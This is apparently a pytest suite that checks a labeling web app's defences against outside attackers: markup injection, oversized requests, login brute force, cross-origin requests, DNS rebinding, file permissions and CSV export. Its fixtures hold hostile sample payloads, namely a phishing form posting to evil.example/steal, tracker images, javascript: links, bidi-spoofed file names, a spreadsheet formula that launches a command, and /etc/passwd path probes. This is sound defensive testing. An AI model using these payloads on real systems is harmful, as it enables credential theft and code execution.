"""The labeling app as an outside attacker sees it (issue 13): hostile item text, sizes,
login abuse, account hygiene, browser-side hardening, files at rest, smaller findings.

Each test names the finding it covers. Servers run in-process on loopback; the browser is
Debian's Chromium through Playwright.
"""

from __future__ import annotations

import asyncio
import hashlib
import json
import os
import re
import signal
import socket
import stat
import subprocess
import sys
import threading
import time
from pathlib import Path

import httpx
import pytest
from playwright.sync_api import expect, sync_playwright
from typer.testing import CliRunner

from labeling_app import passwords
from labeling_app.app import LabelingApp, launch, load_guidelines
from labeling_app.cli import app as label_app
from labeling_app.export import ExportOptions, csv_unescape, judgment_records, write_judgments
from labeling_app.guard import COOKIE, MAX_BODY, Access
from labeling_app.judgments import load_judgments
from labeling_app.login_guard import Limits, LoginGuard
from labeling_app.positions import to_shown
from labeling_app.render import markdown_html, text_html
from labeling_app.store import MAX_RATIONALE, Store, VoteRejected
from schemas.labeling import Item

PASSWORD = "correct horse battery"
ROOT = Path(__file__).resolve().parents[2]
CHROMIUM = next((p for p in ("/usr/lib/chromium/chromium", "/usr/bin/chromium")
                 if Path(p).exists()), None)
FLAGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking",
         "--disable-component-update", "--disable-sync", "--no-first-run"]
ARTIFACTS = ROOT / "test-artifacts"
HOSTILE = (
    '<form action="http://evil.example/steal" method="post"><input type="password" name="p">'
    '<button>Log in again</button></form>\n\n'
    '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;'
    'background:rgba(255,0,0,.4)">covered</div>\n\n'
    '<img src="http://tracker.example/pixel.png"> ![chart](http://tracker.example/md.png)\n\n'
    '<video autoplay src="http://tracker.example/v.mp4"></video>'
    '<audio autoplay src="http://tracker.example/a.mp3"></audio>'
    '<iframe src="http://evil.example/frame"></iframe>'
    '<style>body{display:none}</style><link rel="stylesheet" href="http://evil.example/x.css">'
    '[click me](javascript:alert(1)) <a href="http://evil.example" onclick="alert(2)">x</a>\n\n'
    'file: invoice\u202egpj.exe and \u2066isolated\u2069 | **bold** and `code`\n\n'
    '| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint("<b>not bold</b>")\n```\n')
HTTP = {"timeout": 60}
TEXT = ".prose.item-text"  # the element that holds an item's rendered text
MODEL = '<img src="http://tracker.example/model.png">'  # a source model name is data too


def _login(http: httpx.Client, url: str, user: str, password: str = PASSWORD,
           address: str | None = None) -> httpx.Response:
    headers = {"X-Forwarded-For": address} if address else {}
    return http.post(f"{url}login", data={"username": user, "password": password},
                     headers=headers)


def _vote_body(http: httpx.Client, url: str, api_name: str, rationale: str) -> dict:
    return {"data": [None, rationale], "session_hash": "test-session", "event_data": None,
            "fn_index": _endpoints(http, url)[api_name], "trigger_id": None}


def _endpoints(http: httpx.Client, url: str) -> dict[str, int]:
    config = http.get(f"{url}config").json()
    return {d["api_name"]: d["id"] for d in config["dependencies"] if d.get("api_name")}


@pytest.fixture(scope="module")
def server(tmp_path_factory, make_items):
    folder = tmp_path_factory.mktemp("security")
    store = Store(folder / "labels.sqlite", create=True)
    store.add_items([Item(id="hostile", prompt="Which is better?\n\n" + HOSTILE,
                          response_a="A says:\n\n" + HOSTILE, response_b="B says:\n\n" + HOSTILE,
                          source_a=MODEL, source_b="m2")], overlap=5)
    store.add_items(make_items(6), overlap=2)
    for name, role in (("ann", "annotator"), ("boss", "admin")):
        store.add_user(name, role=role, password=PASSWORD)
    labeling = LabelingApp(store, load_guidelines(), min_seconds=0)
    running = launch(labeling)
    yield running.url, store, labeling
    running.close()
    store.close()


# -- 1. HTML injection from item text -------------------------------------------------------

def test_hostile_markup_renders_as_text_with_bidi_controls_visible():
    out = markdown_html(HOSTILE)
    for tag in ("<form", "<input", "<div style", "<img", "<video", "<audio", "<iframe",
                "<style", "<link", "<a ", 'onclick="'):
        assert tag not in out, tag
    assert "&lt;form action=&quot;http://evil.example/steal&quot;" in out  # shown, not run
    assert '<span class="remote">[image: chart]</span>' in out  # no fetch, address as text
    assert "<strong>bold</strong>" in out and "<code>code</code>" in out
    assert "<table>" in out and "<td>1</td>" in out
    assert "&lt;b&gt;not bold&lt;/b&gt;" in out  # code stays code
    for control in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069":
        assert control not in markdown_html(f"x{control}y")
    assert "[RLO]" in out and "[LRI]" in out and "[PDI]" in out
    fence = markdown_html("```py\u202e onload=x\nz\n```")  # nothing reaches an attribute
    assert fence == "<pre><code>z\n</code></pre>\n"


def test_long_texts_render_as_plain_text_once():
    """Markdown rendering of hostile input costs up to ~30 us a character: a text over
    MARKDOWN_LIMIT is shown as plain (escaped) text, and each text is rendered once."""
    from labeling_app import render

    hostile = "[" * 60_000 + "<b>x</b>\u202e"
    out = markdown_html(hostile)
    assert out.startswith('<div class="plain">[[[') and "&lt;b&gt;x&lt;/b&gt;" in out
    assert "[RLO]" in out and "<p>" not in out
    calls = []
    real = render._render
    render._render = lambda text: calls.append(text) or real(text)
    try:
        fresh = "a fresh text *once*"
        assert markdown_html(fresh) == markdown_html(fresh) == "<p>a fresh text <em>once</em></p>\n"
    finally:
        render._render = real
    assert calls == [fresh]


def test_chat_turns_render_each_role_escaped():
    from schemas import Message

    out = text_html([Message(role="user", content="<b>hi</b>"),
                     Message(role="assistant", content="ok")])
    assert out.count('<div class="turn">') == 2 and "&lt;b&gt;hi&lt;/b&gt;" in out


def test_hostile_item_is_inert_in_chromium_and_the_page_stays_clickable(server):
    """Form, overlay, remote image/media, style payloads: nothing submits, covers, loads or
    styles; the admin's Admin tab and Log out still work."""
    assert CHROMIUM, "Debian's chromium is not installed (apt-get install -y chromium)"
    url, store, _ = server
    foreign, dialogs = [], []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        page = browser.new_page(viewport={"width": 1366, "height": 900})
        page.on("request", lambda r: foreign.append(r.url)
                if not r.url.startswith(url) and not r.url.startswith("data:") else None)
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.goto(url)
        page.get_by_label("User name").fill("boss")
        page.get_by_label("Password").fill(PASSWORD)
        page.get_by_role("button", name="Log in").click()
        expect(page.locator("#vote-left")).to_be_enabled(timeout=30_000)
        expect(page.locator("#pane-left")).to_contain_text("says:")
        for pane in ("#prompt", "#pane-left", "#pane-right"):
            expect(page.locator(f"{pane} {TEXT}")).to_contain_text("evil.example")
        for selector in ("form", "input", "img", "video", "audio", "iframe", "style", "link",
                         "a", "[style]"):
            assert page.locator(f"{TEXT} {selector}").count() == 0, selector
        positioned = page.evaluate(f"""() => [...document.querySelectorAll('{TEXT} *')]
            .filter(e => getComputedStyle(e).position !== 'static').length""")
        assert positioned == 0
        boxes = [page.locator(pane).bounding_box() for pane in ("#pane-left", "#pane-right")]
        votes = page.locator("#votes").bounding_box()
        assert boxes[0]["height"] == boxes[1]["height"]  # equal panes, each scrolls
        assert all(box["y"] + box["height"] <= votes["y"] for box in boxes)  # no spill
        left = page.locator("#pane-left").inner_text()
        assert '<form action="http://evil.example/steal"' in left  # visible as text
        assert "[RLO]" in left and "\u202e" not in left
        ARTIFACTS.mkdir(exist_ok=True)
        page.screenshot(path=ARTIFACTS / "label_hostile_item.png", full_page=True)
        for target in (page.get_by_role("tab", name="Admin"),
                       page.locator("#topbar").get_by_text("Log out")):
            box = target.bounding_box()
            hit = page.evaluate("([x, y]) => document.elementFromPoint(x, y).closest("
                                "'button, [role=tab], a')?.textContent.trim()",
                                [box["x"] + box["width"] / 2, box["y"] + box["height"] / 2])
            assert hit in ("Admin", "Log out")  # nothing lies on top of them
        for name, side in (("voter1", "a"), ("voter2", "b")):  # the overview now names models
            store.add_user(name, password=PASSWORD)
            lease = store.next_assignment(name)
            store.submit(name, lease.lease_id, to_shown(side, lease.left), guideline_version="1")
        page.get_by_role("tab", name="Admin").click()
        expect(page.locator("#admin-refresh")).to_be_visible()
        expect(page.locator("body")).to_contain_text("Progress:")
        expect(page.locator("body")).to_contain_text(f"{MODEL}: win rate")  # as text
        assert page.locator("img[src*='tracker']").count() == 0
        # The Content-Security-Policy is a second wall: an image slipped into the page by any
        # future bug is not fetched.
        violation = page.evaluate("""() => new Promise(done => {
            document.addEventListener('securitypolicyviolation',
                                      e => done(e.effectiveDirective), {once: true});
            const img = document.createElement('img');
            img.src = 'http://127.0.0.2:9/leak.png';
            document.body.appendChild(img);
            setTimeout(() => done(null), 3000);
        })""")
        assert violation == "img-src"
        page.get_by_role("tab", name="Label").click()
        page.locator("#topbar").get_by_text("Log out").click()
        expect(page).to_have_url(re.compile(r"/login$"))
        browser.close()
    # No request ever went to the payload's hosts (the CSP probe above is the only foreign
    # address tried, and the browser blocked it before it left).
    assert foreign == ["http://127.0.0.2:9/leak.png"] and dialogs == []


def test_names_from_the_data_are_escaped_in_overviews():
    from labeling_app.report import overview_markdown, render_html

    summary = {"n_pairs": 2, "n_items": 1, "n_labelers": 2, "agreement": None, "gold": None,
               "p_longer_wins": None, "p_longer_wins_ci": None, "n_length_pairs": 0,
               "min_length_diff": 30, "length_coef": None, "p_left_wins": None,
               "p_left_wins_ci": None, "lc_win_rate": {MODEL: 0.5}, "win_rate": {MODEL: 0.5},
               "length_curve": [], "labelers": [], "simulated": {"votes": 0}}
    assert "\\<img src=" in overview_markdown(summary)  # literal in markdown
    page = render_html(summary, source="x", curve_png=b"")
    assert "<img src=\"http://tracker" not in page and "&lt;img src=" in page


# -- 2. Unbounded sizes ---------------------------------------------------------------------

def test_rationale_has_a_cap(make_store):
    store = make_store(items=1, users=1)
    assignment = store.next_assignment("user-00")
    with pytest.raises(VoteRejected, match="at most 4,000"):
        store.submit("user-00", assignment.lease_id, "left", rationale="x" * (MAX_RATIONALE + 1),
                     guideline_version="1")
    assert store.judgment_rows() == []
    store.submit("user-00", assignment.lease_id, "left", rationale="x" * MAX_RATIONALE,
                 guideline_version="1")


def test_request_bodies_over_the_cap_are_refused_with_or_without_length(server):
    url, store, _ = server
    before = len(store.judgment_rows())
    with httpx.Client(**HTTP) as http:
        _login(http, url, "ann").raise_for_status()
        body = _vote_body(http, url, "vote_left", "x" * (50 * 1024 * 1024))
        big = http.post(f"{url}gradio_api/run/vote_left", json=body)
        assert big.status_code == 413

        def chunks():  # no Content-Length: a chunked upload of 1 MB
            for _ in range(64):
                yield b"x" * 16384

        chunked = http.post(f"{url}gradio_api/run/vote_left", content=chunks(),
                            headers={"content-type": "application/json"})
        assert chunked.status_code == 413
        small = _vote_body(http, url, "vote_left", "fine")
        assert len(json.dumps(small)) < MAX_BODY
        assert http.post(f"{url}gradio_api/run/vote_left", json=small).status_code == 200
    assert len(store.judgment_rows()) == before  # neither big vote was saved


def test_uploads_and_file_reads_by_path_are_gone(server, tmp_path):
    url, _, _ = server
    secret = tmp_path / "secret.txt"
    secret.write_text("secret")
    with httpx.Client(**HTTP) as http:
        _login(http, url, "ann").raise_for_status()
        upload = http.post(f"{url}gradio_api/upload", files={"files": ("a.bin", b"x" * 1000)})
        assert upload.status_code in (404, 413)
        for path in (f"gradio_api/file={secret}", f"file={secret}", "gradio_api/file/etc/passwd",
                     "gradio_api/upload_progress", "gradio_api/proxy=http://x"):
            assert http.get(f"{url}{path}").status_code == 404, path


def test_import_caps_item_text_with_an_error_or_a_marked_truncation(tmp_path):
    runner = CliRunner()
    items, db = tmp_path / "items.jsonl", tmp_path / "labels.sqlite"
    big = "word " * 210_000  # 1 MB
    items.write_text(json.dumps({"id": "ok", "prompt": "q", "response_a": "a",
                                 "response_b": "b"}) + "\n"
                     + json.dumps({"id": "big", "prompt": "q", "response_a": big,
                                   "response_b": "b"}) + "\n")
    failed = runner.invoke(label_app, ["import", str(items), "-d", str(db)])
    assert failed.exit_code == 1
    assert f"{items}:2: field 'response_a': has 1,050,000 characters, over --max-chars " \
        "100,000" in failed.output
    assert not db.exists()
    done = runner.invoke(label_app, ["import", str(items), "-d", str(db), "--truncate"])
    assert done.exit_code == 0, done.output
    assert "1 truncated" in done.output
    stats = json.loads((tmp_path / "labels.import.stats.json").read_text())
    assert stats["truncated"] == 1 and stats["out"] == 2
    with Store(db) as store:
        item = next(i for i, _, _ in store.items() if i.id == "big")
    assert item.response_a == big[:100_000] + ("\n\n[... 950,000 more characters cut by label "
                                               "import --max-chars 100,000]")
    assert item.meta["truncated"] == {"max_chars": 100_000,
                                      "cut_characters": {"response_a": 950_000}}


# -- 3. Login abuse -------------------------------------------------------------------------

def test_failed_logins_back_off_per_user_and_a_right_password_then_waits(server):
    url, _, _ = server
    with httpx.Client(**HTTP) as http:
        codes = [_login(http, url, "ann", "wrong password!", address="10.9.0.1").status_code
                 for _ in range(5)]
        assert codes == [401] * 5
        # The 6th wrong try is checked and counted; from then on, answers come at once.
        assert _login(http, url, "ann", "wrong password!", address="10.9.0.2").status_code == 401
        locked = _login(http, url, "ann", PASSWORD, address="10.9.0.3")
        assert locked.status_code == 429 and int(locked.headers["retry-after"]) >= 1
        assert "too many failed logins" in locked.json()["detail"]
        assert COOKIE not in locked.cookies
        time.sleep(float(locked.headers["retry-after"]))
        assert _login(http, url, "ann", PASSWORD, address="10.9.0.3").status_code == 200


def test_failed_logins_back_off_per_address_across_user_names(server):
    url, _, _ = server
    with httpx.Client(**HTTP) as http:
        for i in range(20):
            assert _login(http, url, f"nobody{i}", "guess-guess-guess",
                          address="10.8.0.1").status_code == 401
        assert _login(http, url, "nobody20", "guess-guess-guess",
                      address="10.8.0.1").status_code == 401  # the 21st: checked, counted
        assert _login(http, url, "boss", PASSWORD, address="10.8.0.1").status_code == 429
        assert _login(http, url, "boss", PASSWORD, address="10.8.0.2").status_code == 200


def test_backoff_doubles_up_to_the_cap_and_success_clears_it():
    now = [0.0]
    outcomes = []

    def verify(name: str, password: str) -> bool:
        return password == "right"

    guard = LoginGuard(verify, Limits(free_per_user=2, free_per_address=1000, max_wait=8),
                       clock=lambda: now[0])

    async def attempt(password: str):
        return await guard.attempt("ann", password, "1.2.3.4")

    waits = []
    for _ in range(7):
        outcome = asyncio.run(attempt("wrong"))
        outcomes.append(outcome.ok)
        waits.append(guard.users.wait("ann", now[0]))
        now[0] += waits[-1]  # wait exactly as told, then try again
    assert waits == [0, 0, 1, 2, 4, 8, 8]
    assert asyncio.run(attempt("right")).ok
    assert guard.users.wait("ann", now[0]) == 0
    guard.close()


def test_password_hashing_runs_in_its_own_bounded_pool():
    """scrypt never runs on the request threads, and a full queue answers 'busy' at once."""
    release, threads = threading.Event(), []

    def slow_verify(name: str, password: str) -> bool:
        threads.append(threading.current_thread().name)
        release.wait(10)
        return False

    guard = LoginGuard(slow_verify, Limits(hash_threads=1, hash_queue=3))

    async def flood():
        tasks = [asyncio.create_task(guard.attempt(f"u{i}", "x", f"10.0.0.{i}"))
                 for i in range(5)]
        await asyncio.sleep(0.2)
        early = [task.result() for task in tasks if task.done()]
        release.set()
        return early, await asyncio.gather(*tasks)

    early, results = asyncio.run(flood())
    assert len(early) == 2 and all(o.busy and o.retry_after for o in early)
    assert sum(not o.busy for o in results) == 3
    assert set(threads) == {"prefkit-hash_0"}
    guard.close()


def test_an_unknown_user_costs_the_same_one_hash_as_a_real_one(make_store, monkeypatch):
    store = make_store()
    store.add_user("alice", password=PASSWORD)
    store.add_user("bob", password=PASSWORD)
    store.set_disabled("bob", True)
    store.add_user("sim-01", simulated=True)  # no password
    calls = []
    real = hashlib.scrypt
    monkeypatch.setattr(passwords.hashlib, "scrypt",
                        lambda *a, **k: calls.append(k["n"]) or real(*a, **k))
    for name, password in (("alice", PASSWORD), ("alice", "wrong"), ("nobody", PASSWORD),
                           ("bob", PASSWORD), ("sim-01", "")):
        calls.clear()
        assert store.check_password(name, password) == (password == PASSWORD
                                                        and name == "alice")
        assert calls == [2**14], name  # one full-cost hash for every kind of name


# -- 4. Account hygiene ---------------------------------------------------------------------

@pytest.mark.parametrize(("password", "message"), [
    ("x", "at least 12 characters"), (" ", "at least 12 characters"),
    ("            ", "not blank"), ("aaaaaaaaaaaaaa", "one repeated character"),
    ("carol-the-labeler", "user name"), ("CAROL12345678", "user name"),
])
def test_users_add_refuses_weak_passwords(tmp_path, password, message):
    db = tmp_path / "labels.sqlite"
    result = CliRunner().invoke(label_app, ["users", "add", "carol", "-d", str(db),
                                            "--password-stdin"], input=password + "\n")
    assert result.exit_code == 1 and message in result.output
    assert len(result.output.strip().splitlines()) == 1 and "Traceback" not in result.output


def test_user_names_are_plain(make_store):
    store = make_store()
    for name in ("<img src=x>", "a b", "x" * 65, "-lead"):
        with pytest.raises(ValueError, match="user name"):
            store.add_user(name, password=PASSWORD)


def test_sessions_expire(make_store, clock):
    store = make_store()
    store.add_user("ann", password=PASSWORD)
    token = store.create_session("ann", lifetime=3600)
    assert store.session_user(token) == "ann"
    clock.advance(3599)
    assert store.session_user(token) == "ann"
    clock.advance(2)
    assert store.session_user(token) is None
    assert store.session_user("forged") is None


def test_cookie_is_httponly_lax_with_a_lifetime_and_secure_behind_https(server):
    url, _, _ = server
    with httpx.Client(**HTTP) as http:
        plain = _login(http, url, "boss", address="10.7.0.1").headers["set-cookie"]
        proxied = _login(http, url, "boss", address="10.7.0.1",
                         ).headers["set-cookie"]
        https = http.post(f"{url}login", data={"username": "boss", "password": PASSWORD},
                          headers={"X-Forwarded-For": "10.7.0.1", "X-Forwarded-Proto": "https"}
                          ).headers["set-cookie"]
    for cookie in (plain, proxied, https):
        assert "HttpOnly" in cookie and "SameSite=lax" in cookie and "Path=/" in cookie
        assert "Max-Age=43200" in cookie
    assert "Secure" not in plain and "Secure" in https


def test_a_password_reset_disable_or_remove_ends_sessions_on_a_running_server(server):
    url, store, _ = server
    for name in ("dora", "eve", "fay"):
        store.add_user(name, password=PASSWORD)
    clients = {}
    for name in ("dora", "eve", "fay"):
        clients[name] = httpx.Client(**HTTP)
        _login(clients[name], url, name).raise_for_status()
        assert clients[name].get(f"{url}config").status_code == 200
    runner = CliRunner()
    reset = runner.invoke(label_app, ["users", "add", "dora", "-d", str(store.path),
                                      "--replace", "--password-stdin"],
                          input="a-brand-new-password\n")
    assert reset.exit_code == 0, reset.output
    assert runner.invoke(label_app, ["users", "disable", "eve", "-d", str(store.path)]
                         ).exit_code == 0
    assert runner.invoke(label_app, ["users", "remove", "fay", "-d", str(store.path)]
                         ).exit_code == 0
    for name, client in clients.items():
        assert client.get(f"{url}config").status_code == 401, name
        client.close()
    with httpx.Client(**HTTP) as http:
        assert _login(http, url, "dora", "a-brand-new-password").status_code == 200
        assert _login(http, url, "eve", address="10.6.0.1").status_code == 401  # disabled
    assert runner.invoke(label_app, ["users", "enable", "eve", "-d", str(store.path)]
                         ).exit_code == 0
    with httpx.Client(**HTTP) as http:
        assert _login(http, url, "eve", address="10.6.0.2").status_code == 200


def test_remove_keeps_judgments_unless_asked_and_saves_them_first(tmp_path, make_items):
    db = tmp_path / "labels.sqlite"
    with Store(db, create=True) as store:
        store.add_items(make_items(3), overlap=1)
        store.add_user("spam", password=PASSWORD)
        for _ in range(2):
            lease = store.next_assignment("spam")
            store.submit("spam", lease.lease_id, "left", guideline_version="1")
        assert store.item_counts() == (2, 3)
    runner = CliRunner()
    refused = runner.invoke(label_app, ["users", "remove", "spam", "-d", str(db)])
    assert refused.exit_code == 1 and "has 2 judgments" in refused.output
    removed = runner.invoke(label_app, ["users", "remove", "spam", "-d", str(db),
                                        "--delete-judgments"])
    assert removed.exit_code == 0, removed.output
    saved = list(tmp_path.glob("labels.removed-spam-*.jsonl"))
    assert len(saved) == 1 and len(saved[0].read_text().splitlines()) == 2
    with Store(db) as store:
        assert store.item_counts() == (0, 3)  # the two items are open again
        assert store.users() == [] and store.judgment_rows() == []


# -- 5. Browser-side hardening --------------------------------------------------------------

@pytest.fixture(scope="module")
def open_server(tmp_path_factory, make_items):
    store = Store(tmp_path_factory.mktemp("open") / "labels.sqlite", create=True)
    store.add_items(make_items(2), overlap=1)
    store.add_user("local", role="admin")
    running = launch(LabelingApp(store, load_guidelines(), min_seconds=0, open_mode=True),
                     access=Access(open_mode=True, allowed_hosts=("labels.internal",)))
    yield running.url
    running.close()
    store.close()


def test_open_mode_serves_loopback_and_allowed_host_names_only(open_server):
    """DNS rebinding: a page on evil.example whose name now points at 127.0.0.1 sends
    Host: evil.example, and gets nothing."""
    url = open_server
    with httpx.Client(**HTTP) as http:
        for host in ("evil.example", "evil.example:7860", "192.168.1.5", "localhost.evil.example"):
            for path in ("config", "", "gradio_api/info"):
                response = http.get(f"{url}{path}", headers={"Host": host})
                assert response.status_code == 421, (host, path)
        for host in ("localhost", "127.0.0.1", "[::1]:7860", "labels.internal"):
            assert http.get(f"{url}config", headers={"Host": host}).status_code == 200, host


def test_serve_refuses_the_network_without_an_allowed_host(tmp_path, make_items):
    db = tmp_path / "labels.sqlite"
    with Store(db, create=True) as store:
        store.add_items(make_items(1), overlap=1)
        store.add_user("boss", role="admin", password=PASSWORD)
    result = CliRunner().invoke(label_app, ["serve", "-d", str(db), "--host", "0.0.0.0"])
    assert result.exit_code == 1 and "--allowed-host" in result.output
    wildcard = CliRunner().invoke(label_app, ["serve", "-d", str(db), "--open",
                                              "--allowed-host", "*"])
    assert wildcard.exit_code == 1 and "refused" in wildcard.output


def test_no_cross_origin_reads_or_writes_and_no_framing(server):
    url, store, _ = server
    with httpx.Client(**HTTP) as http:
        _login(http, url, "ann").raise_for_status()
        evil = {"Origin": "http://evil.example"}
        read = http.get(f"{url}config", headers=evil)
        assert "access-control-allow-origin" not in read.headers
        assert "access-control-allow-credentials" not in read.headers
        preflight = http.options(f"{url}gradio_api/run/vote_left",
                                 headers={**evil, "Access-Control-Request-Method": "POST"})
        assert "access-control-allow-origin" not in preflight.headers
        before = len(store.judgment_rows())
        body = _vote_body(http, url, "load", "")
        body["data"] = []
        for headers in (evil, {"Sec-Fetch-Site": "cross-site"},
                        {"Origin": "http://localhost.evil.example"}):
            forged = http.post(f"{url}gradio_api/run/load", json=body, headers=headers)
            assert forged.status_code == 403, headers
        login = http.post(f"{url}login", data={"username": "ann", "password": PASSWORD},
                          headers=evil)
        assert login.status_code == 403 and COOKIE not in login.cookies
        same = http.post(f"{url}gradio_api/run/load", json=body,
                         headers={"Origin": url.rstrip("/")})
        assert same.status_code == 200
        assert len(store.judgment_rows()) == before
        page = http.get(url)
        assert page.headers["x-frame-options"] == "DENY"
        assert "frame-ancestors 'none'" in page.headers["content-security-policy"]
        assert "img-src 'self' data: blob:" in page.headers["content-security-policy"]
        assert "form-action 'self'" in page.headers["content-security-policy"]


# -- 6. Files at rest -----------------------------------------------------------------------

def test_database_and_its_wal_are_created_owner_only(tmp_path, make_items):
    items = tmp_path / "items.jsonl"
    items.write_text("".join(i.model_dump_json() + "\n" for i in make_items(2)))
    db = tmp_path / "labels.sqlite"
    result = CliRunner().invoke(label_app, ["import", str(items), "-d", str(db)])
    assert result.exit_code == 0, result.output
    with Store(db) as store:
        store.add_user("ann", password=PASSWORD)  # a write: the -wal file exists now
        for path in (db, Path(f"{db}-wal"), Path(f"{db}-shm")):
            assert stat.S_IMODE(path.stat().st_mode) == 0o600, path


def test_exports_are_private_admin_only_and_gone_after_sigterm_or_sigint(tmp_path, make_items):
    """`label serve` in a subprocess: an admin exports, an annotator cannot fetch the file,
    Gradio's cache never holds it, and SIGTERM (then SIGINT) deletes it."""
    db = tmp_path / "labels.sqlite"
    with Store(db, create=True) as store:
        store.add_items(make_items(2), overlap=1)
        store.add_user("boss", role="admin", password=PASSWORD)
        store.add_user("ann", password=PASSWORD)
    for signum in (signal.SIGTERM, signal.SIGINT):
        temp, gradio_temp = tmp_path / f"tmp-{signum}", tmp_path / f"gradio-{signum}"
        temp.mkdir()
        env = {**os.environ, "TMPDIR": str(temp), "GRADIO_TEMP_DIR": str(gradio_temp),
               "PYTHONPATH": str(ROOT), "GRADIO_ANALYTICS_ENABLED": "False"}
        port = _free_port()
        process = subprocess.Popen([sys.executable, "-m", "labeling_app.cli", "serve", "-d",
                                    str(db), "--port", str(port)], env=env,
                                   stderr=subprocess.PIPE, text=True)
        try:
            url = f"http://127.0.0.1:{port}/"
            _wait_for(url)
            with httpx.Client(**HTTP) as admin, httpx.Client(**HTTP) as annotator:
                _login(admin, url, "boss").raise_for_status()
                _login(annotator, url, "ann").raise_for_status()
                link = _run_queued(admin, url, "export_judgments",
                                   [0.0, False, False, "human", "overall"])[0]
                href = re.search(r'href="([^"]+)"', link)[1]
                assert admin.get(f"{url}{href}").status_code == 200
                assert annotator.get(f"{url}{href}").status_code == 404
                assert httpx.get(f"{url}{href}").status_code == 401
            files = [p for p in temp.rglob("*") if p.is_file()]
            assert [p.name for p in files] == ["judgments.csv"]
            assert stat.S_IMODE(files[0].stat().st_mode) == 0o600
            assert stat.S_IMODE(files[0].parent.stat().st_mode) == 0o700
            assert not any(p.name == "judgments.csv" for p in gradio_temp.rglob("*"))
        finally:
            process.send_signal(signum)
            _, err = process.communicate(timeout=30)
        assert process.returncode == 0, err
        assert "label serve: stopped" in err and "Traceback" not in err
        assert not any(temp.rglob("*.csv")), "the export survived the signal"


def test_csv_export_escapes_formulas_and_the_report_reads_them_back(tmp_path):
    rows = [{"item_id": "=cmd|' /C calc'!A0", "user": "@sum", "choice": "a", "shown": "left",
             "left": "a", "seconds": 4.0, "guideline_version": "+1",
             "rationale": "-2+3 is better", "simulated": False, "created_at": 0.0,
             "len_a": 10, "len_b": 20, "source_a": "'=x", "source_b": "plain", "gold": None}]
    path = tmp_path / "votes.csv"
    write_judgments(path, judgment_records(rows, ExportOptions()))
    text = path.read_text()
    for cell in ("'=cmd", "'@sum", "'+1", "'-2+3", "''=x"):
        assert cell in text, cell
    assert not re.search(r"(^|,)[=+\-@]", text.splitlines()[1])
    frame = load_judgments(path)
    assert frame["item_id"].to_list() == ["=cmd|' /C calc'!A0"]
    assert frame["user"].to_list() == ["@sum"] and frame["source_a"].to_list() == ["'=x"]
    assert csv_unescape("'-1") == "-1" and csv_unescape("'plain") == "'plain"


# -- 7. Smaller findings --------------------------------------------------------------------

@pytest.mark.parametrize("shown", ["left", "skip"])
def test_votes_and_skips_are_held_to_the_too_fast_guard(make_store, clock, shown):
    """A too-fast click is refused and the item kept; skips used to bypass the guard."""
    store = make_store(items=1, users=1)
    assignment = store.next_assignment("user-00")
    clock.advance(1)
    with pytest.raises(VoteRejected, match="too fast"):
        store.submit("user-00", assignment.lease_id, shown, rationale="meh",
                     guideline_version="1", min_seconds=3)
    assert store.next_assignment("user-00").lease_id == assignment.lease_id
    clock.advance(2)
    store.submit("user-00", assignment.lease_id, shown, rationale="meh",
                 guideline_version="1", min_seconds=3)
    assert [row["shown"] for row in store.judgment_rows()] == [shown]
    assert store.judgment_rows()[0]["seconds"] == pytest.approx(3.0)  # timed by the server


def test_non_utf8_import_names_file_and_line_and_skip_drops_only_that_line(tmp_path):
    items, db = tmp_path / "items.jsonl", tmp_path / "labels.sqlite"
    good = [json.dumps({"id": f"i{i}", "prompt": "q", "response_a": "a", "response_b": "b"})
            for i in range(3)]
    items.write_bytes((good[0] + "\n").encode() + b'{"id": "bad", "prompt": "caf\xe9"}\n'
                      + (good[1] + "\n" + good[2] + "\n").encode())
    runner = CliRunner()
    failed = runner.invoke(label_app, ["import", str(items), "-d", str(db)])
    assert failed.exit_code == 1
    assert f"{items}:2: invalid UTF-8 byte 0xe9" in failed.output
    skipped = runner.invoke(label_app, ["import", str(items), "-d", str(db), "--on-error",
                                        "skip"])
    assert skipped.exit_code == 0, skipped.output
    stats = json.loads((tmp_path / "labels.import.stats.json").read_text())
    assert (stats["in"], stats["out"], stats["rejected"]) == (4, 3, 1)
    reject = json.loads((tmp_path / "labels.import.rejects.jsonl").read_text())
    assert (reject["line"], reject["reason"]) == (2, "bad_encoding")


def test_an_empty_import_file_is_an_error(tmp_path):
    empty, db = tmp_path / "empty.jsonl", tmp_path / "labels.sqlite"
    empty.write_text("\n\n")
    result = CliRunner().invoke(label_app, ["import", str(empty), "-d", str(db)])
    assert result.exit_code == 1 and "no items in the file" in result.output
    assert not db.exists()


def test_unknown_endpoints_and_malformed_calls_answer_4xx_not_500(server):
    url, _, _ = server
    with httpx.Client(**HTTP) as http:
        _login(http, url, "ann").raise_for_status()
        fn = _endpoints(http, url)["vote_left"]
        probes = [("GET", "nonexistent", None), ("GET", "gradio_api/nonexistent", None),
                  ("POST", "gradio_api/run/nonexistent", {"data": []}),
                  ("POST", "gradio_api/run/predict", {"data": [None, ""], "fn_index": 999}),
                  ("POST", "gradio_api/queue/join", {"data": [], "fn_index": 999,
                                                     "session_hash": "s"}),
                  ("POST", "gradio_api/run/vote_left", {"data": []}),
                  ("POST", "gradio_api/run/predict", {"data": [1, 2, 3], "fn_index": fn}),
                  ("POST", "gradio_api/run/vote_left", [1, 2]),
                  ("GET", "gradio_api/call/vote_left/abc", None)]
        for method, path, body in probes:
            response = http.request(method, f"{url}{path}", json=body)
            assert 400 <= response.status_code < 500, (path, body, response.status_code)


def test_a_vote_whose_rationale_is_not_text_is_refused_not_a_500(server):
    """Votes take their values as sent (`LabelingApp.RAW_VALUES`), so the store checks the
    rationale's type itself."""
    url, store, _ = server
    before = len(store.judgments_of())
    with httpx.Client(**HTTP) as http:
        _login(http, url, "ann").raise_for_status()
        for rationale in (7, ["why"], {"a": 1}):
            body = _vote_body(http, url, "vote_left", "")
            body["data"][1] = rationale
            response = http.post(f"{url}gradio_api/run/vote_left", json=body)
            assert response.status_code == 200, response.text[:300]
            assert any("the rationale is text" in str(value)
                       for value in response.json()["data"]), response.text[:300]
    assert len(store.judgments_of()) == before


def test_the_login_page_lists_no_api(server):
    url, _, _ = server
    with httpx.Client(**HTTP) as http:
        page = http.get(f"{url}login")
        assert page.status_code == 200 and 'type="password"' in page.text
